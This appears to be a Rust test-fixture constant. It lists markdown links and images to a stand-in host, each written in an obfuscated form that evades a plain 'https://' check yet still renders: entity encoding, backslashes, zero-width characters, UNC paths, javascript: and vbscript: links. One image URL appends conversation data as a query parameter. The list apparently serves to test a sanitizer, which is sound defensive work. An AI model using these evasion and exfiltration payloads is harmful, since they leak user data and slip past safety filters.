//! Addresses, written in the ways in which markup lets them be written: whoever looks for `https://` finds none of them,
//! and whoever renders the markup opens every one.

/// A line each.
pub(in crate::graph) const ADDRESSES: &str = concat!(
    "[open](https\\://parcel-redelivery.example/a)\n",
    "![b](https&colon;//parcel-redelivery.example/b.png)\n",
    "![c](https&#x3A;&#47;&#47;parcel-redelivery.example/c.png)\n",
    "![d]( //parcel-redelivery.example/d.png)\n",
    "![e](/\\parcel-redelivery.example/e.png)\n",
    "![f](\\/\\/parcel-redelivery.example/f.png)\n",
    "![g](http:parcel-redelivery.example/g.png)\n",
    "![h](https:/parcel-redelivery.example/h.png)\n",
    "![i](https:\\\\parcel-redelivery.example\\i.png)\n",
    "file:////parcel-redelivery.example/share\n",
    "<\\\\parcel-redelivery.example\\share>\n",
    "wWw.parcel-redelivery.example/k\n",
    "[1]: //parcel-redelivery.example/l\n",
    "htt\u{200b}ps://parcel-redelivery.example/m\n",
    "https://parcel-redelivery\u{3002}example/n\n",
    "[o](javascript\\:alert(1)) [p](javascript&#58;alert(1)) [q](vbscript:x)\n",
    "![r](//parcel-redelivery.example/r.png?d=CONVERSATION)\n",
);
